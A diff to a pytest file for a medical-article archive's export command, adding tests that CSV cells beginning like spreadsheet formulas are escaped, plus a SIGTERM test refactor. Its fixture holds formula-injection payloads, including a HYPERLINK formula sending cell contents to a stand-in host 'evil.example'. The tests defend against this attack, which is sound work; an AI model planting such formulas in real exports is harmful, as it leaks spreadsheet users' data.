@@ -14,8 +14,9 @@ from contextlib import closing
 
 import pytest
 
-from archive.export import ExportError, columns, replaced_atomically
-from conftest import FAST, medarchive_in_process, middle_article
+from archive.export import columns
+from archive.files import CannotWrite, replaced_atomically
+from conftest import FAST, medarchive_in_process, middle_article, written_archive
 from test_full_disk import small_disk  # noqa: F401 (a fixture)
 
 CITED = {"dois": "article_dois", "pmids": "article_pmids", "pmcids": "article_pmcids", "trials": "article_trials"}
@@ -87,6 +88,28 @@ def test_csv_reads_back_with_the_csv_module_and_opens_in_excel_with_bom(two_site
     raw = target.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbfurl,id,site,")  # Excel reads UTF-8 only after the byte order mark
     assert read_csv(raw.decode("utf-8-sig")) == archive_rows(two_sites["db"])
+
+
+#: Crawled text a spreadsheet would run as a formula, by column.
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"详情")', "category": "+SUM(1,1)", "body": "-2+3 cmd",
+            "disclaimer": "@SUM(1,1)", "published_raw": "\t=1+1"}
+
+
+@pytest.fixture
+def formulas(tmp_path):
+    """An archive of one article whose crawled text starts like spreadsheet formulas."""
+    return written_archive(tmp_path, [{"url": "https://site.example/a/1.html", "site": "https://site.example", "body_html": "<p>x</p>",
+                                       "references": [], "dois": [], "pmids": [], "pmcids": [], **FORMULAS}])
+
+
+def test_csv_cells_that_start_like_a_formula_are_written_as_text(formulas):
+    row = read_csv(export("--db", str(formulas), "--format", "csv").stdout)[0]
+    assert {name: row[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
+
+
+def test_raw_csv_keeps_the_cells_as_stored(formulas):
+    row = read_csv(export("--db", str(formulas), "--format", "csv", "--raw").stdout)[0]
+    assert {name: row[name] for name in FORMULAS} == FORMULAS
 
 
 def test_parquet_reads_back_with_pyarrow(two_sites, tmp_path):
@@ -162,6 +185,7 @@ def one_error_line(result, status: int) -> str:
     (["--format", "parquet"], 2, "Error: Parquet is a binary file: give -o FILE"),
     ([], 2, "Error: say which --format (csv, jsonl or parquet); -o's suffix names none"),
     (["--format", "jsonl", "--bom"], 2, "Error: --bom is for CSV only"),
+    (["--format", "jsonl", "--raw"], 2, "Error: --raw is for CSV only"),
     (["--format", "csv", "--since", "2025-02-30"], 2, "Error: Invalid value for '--since': '2025-02-30' is not a date like 2025-01-31"),
     (["--format", "csv", "--until", "20250131"], 2, "Error: Invalid value for '--until': '20250131' is not a date like 2025-01-31"),
     (["--format", "csv", "--since", "2025-02-01", "--until", "2025-01-01"], 2, "Error: --since 2025-02-01 is after --until 2025-01-01: no day is both"),
@@ -200,7 +224,7 @@ def test_a_failed_export_leaves_neither_the_file_nor_a_partial_one(tmp_path):
         binary.write(b"url,id\n" * 1000)
         raise KeyboardInterrupt
     assert target.read_text() == "the previous export" and sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
-    with pytest.raises(ExportError, match="is a directory"), replaced_atomically(tmp_path):
+    with pytest.raises(CannotWrite, match="is a directory"), replaced_atomically(tmp_path):
         pass
 
 
@@ -217,18 +241,22 @@ def many_articles(path, n: int) -> None:
         )
 
 
+def sigterm_once_written(args, partial):
+    """Run ``medarchive ARGS``, send it SIGTERM once ``partial`` holds bytes; its exit status and stderr."""
+    process = subprocess.Popen([sys.executable, "-m", "medarchive", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 60
+    while not (partial.exists() and partial.stat().st_size) and process.poll() is None and time.monotonic() < deadline:
+        time.sleep(0.002)
+    process.send_signal(signal.SIGTERM)
+    _, stderr = process.communicate(timeout=60)
+    return process.returncode, stderr
+
+
 def test_a_killed_export_leaves_no_half_file(tmp_path):
     db, target = tmp_path / "big.db", tmp_path / "out.csv"
     many_articles(db, 20_000)
-    partial = tmp_path / "out.csv.partial"
-    process = subprocess.Popen([sys.executable, "-m", "medarchive", "export", "--db", str(db), "-o", str(target)],
-                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
-    deadline = time.monotonic() + 60
-    while not (partial.exists() and partial.stat().st_size) and process.poll() is None and time.monotonic() < deadline:
-        time.sleep(0.005)
-    process.send_signal(signal.SIGTERM)
-    _, stderr = process.communicate(timeout=60)
-    assert process.returncode == 1, stderr
+    status, stderr = sigterm_once_written(["export", "--db", str(db), "-o", str(target)], tmp_path / "out.csv.partial")
+    assert status == 1, stderr
     assert stderr.strip() == f"Error: interrupted; {target} was not written"
     assert list(tmp_path.iterdir()) == [db] or sorted(tmp_path.iterdir()) == sorted([db, tmp_path / "big.db-shm", tmp_path / "big.db-wal"])
 
